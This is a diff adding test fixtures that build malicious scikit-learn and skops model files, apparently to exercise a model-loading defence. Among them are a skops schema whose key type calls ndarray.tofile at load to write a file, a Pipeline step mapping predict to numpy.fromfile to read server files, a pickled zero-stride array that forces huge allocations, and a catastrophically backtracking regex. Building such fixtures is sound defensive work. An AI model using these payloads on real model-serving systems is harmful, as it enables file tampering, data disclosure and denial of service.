@@ -383,3 +383,152 @@ def onnx_with_sparse_external_data(path: Path, location: str) -> None:
     )
     model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
     path.write_bytes(model.SerializeToString())
+
+
+# -- found by an attacker who was not shown the defences (second round) --------------------
+def _skops_schema(model: object) -> tuple[dict[str, object], dict[str, bytes]]:
+    import io
+    import json
+
+    import skops.io as sio
+
+    with zipfile.ZipFile(io.BytesIO(sio.dumps(model))) as z:
+        members = {n: z.read(n) for n in z.namelist()}
+    return json.loads(members.pop("schema.json")), members
+
+
+def _write_skops(path: Path, schema: dict[str, object], members: dict[str, bytes]) -> None:
+    with zipfile.ZipFile(path, "w") as z:
+        z.writestr("schema.json", json.dumps(schema))
+        for name, data in members.items():
+            z.writestr(name, data)
+
+
+def skops_key_type_method_writing_a_file(path: Path, t: Sentinel) -> None:
+    """A skops LinearRegression whose dict's key_types entry is ``payload_array.tofile``.
+
+    skops's DictNode calls each key type on its key, so loading would run
+    ``payload.tofile(<sentinel path>)``: a file written by a model at load.
+    """
+    import numpy as np
+    from sklearn.linear_model import LinearRegression
+
+    model = LinearRegression().fit(np.arange(8.0).reshape(4, 2), [0.0, 1.0, 2.0, 3.0])
+    model.extra = {"k": 1}  # type: ignore[attr-defined]
+    model.payload = np.frombuffer(b"written by a model\n", dtype=np.uint8)  # type: ignore[attr-defined]
+    schema, members = _skops_schema(model)
+    attrs = schema["content"]["content"]  # type: ignore[index]
+    extra = attrs["extra"]
+    extra["content"] = {str(t.file): extra["content"]["k"]}
+    extra["key_types"]["content"][0] = {
+        "__class__": "ndarray",
+        "__module__": "numpy",
+        "__loader__": "MethodNode",
+        "content": {"func": "tofile", "obj": attrs["payload"]},
+    }
+    _write_skops(path, schema, members)
+
+
+def skops_dict_subclass_step(path: Path) -> None:
+    """A skops Pipeline step that is an OrderedDict whose *instance* ``__dict__`` holds ``predict``.
+
+    The callable is ``numpy.fromfile`` (reached by skops's attribute lookup), so
+    predict would read a server file; the step hides it from a walk of dict items.
+    """
+    schema = {
+        "__class__": "Pipeline",
+        "__module__": "sklearn.pipeline",
+        "__loader__": "ObjectNode",
+        "content": _skops_dict(
+            {
+                "steps": _skops_list(
+                    [
+                        _skops_tuple(
+                            [
+                                _skops_json("read"),
+                                {
+                                    "__class__": "OrderedDict",
+                                    "__module__": "collections",
+                                    "__loader__": "ObjectNode",
+                                    "content": _skops_dict({"predict": _skops_function("numpy", "fromfile")}),
+                                },
+                            ]
+                        )
+                    ]
+                ),
+                "verbose": _skops_json(False),
+            }
+        ),
+        "protocol": 2,
+        "_skops_version": "0.16.0",
+    }
+    _write_skops(path, schema, {})
+
+
+def _skops_json(value: object) -> dict[str, object]:
+    names = {str: "str", bool: "bool", int: "int", float: "float", type(None): "NoneType"}
+    return {
+        "__class__": names[type(value)],
+        "__module__": "builtins",
+        "__loader__": "JsonNode",
+        "content": json.dumps(value),
+        "is_json": True,
+    }
+
+
+def _skops_function(module: str, name: str) -> dict[str, object]:
+    return {"__class__": name, "__module__": module, "__loader__": "FunctionNode"}
+
+
+def _skops_dict(items: dict[str, object]) -> dict[str, object]:
+    str_type = {"__class__": "str", "__module__": "builtins", "__loader__": "TypeNode"}
+    return {
+        "__class__": "dict",
+        "__module__": "builtins",
+        "__loader__": "DictNode",
+        "content": items,
+        "key_types": _skops_list([str_type for _ in items]),
+    }
+
+
+def _skops_list(items: list[object]) -> dict[str, object]:
+    return {"__class__": "list", "__module__": "builtins", "__loader__": "ListNode", "content": items}
+
+
+def _skops_tuple(items: list[object]) -> dict[str, object]:
+    return {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode", "content": items}
+
+
+class _ZeroStride:
+    """Pickles as ``numpy.ndarray((rows, 4), 'f8', 8 bytes, 0, (0, 0))``: a huge view of 8 bytes."""
+
+    def __init__(self, rows: int) -> None:
+        self.rows = rows
+
+    def __reduce__(self) -> tuple[object, ...]:
+        import numpy as np
+
+        return (np.ndarray, ((self.rows, 4), "f8", b"\0" * 8, 0, (0, 0)))
+
+
+def linear_model_with_zero_stride_coef(rows: int = 50_000_000) -> object:
+    """A LinearRegression whose coef_ spans 1.6 GB over 8 bytes: every predicted row allocates it."""
+    import numpy as np
+    from sklearn.linear_model import LinearRegression
+
+    model = LinearRegression().fit(np.random.default_rng(0).random((10, 4)), np.arange(10.0))
+    model.coef_ = _ZeroStride(rows)
+    model.intercept_ = 0.0
+    return model
+
+
+def vectorizer_with_backtracking_pattern() -> object:
+    """A fitted CountVectorizer pipeline whose token_pattern backtracks catastrophically on text."""
+    from sklearn.feature_extraction.text import CountVectorizer
+    from sklearn.linear_model import LogisticRegression
+    from sklearn.pipeline import make_pipeline
+
+    model = make_pipeline(CountVectorizer(), LogisticRegression(max_iter=200))
+    model.fit(["aaa bbb", "bbb ccc", "aaa ccc", "ccc ddd"], [0, 1, 0, 1])
+    model.steps[0][1].token_pattern = r"(?:.|\s)*(?:.|\s)*(?:.|\s)*\x00"
+    return model
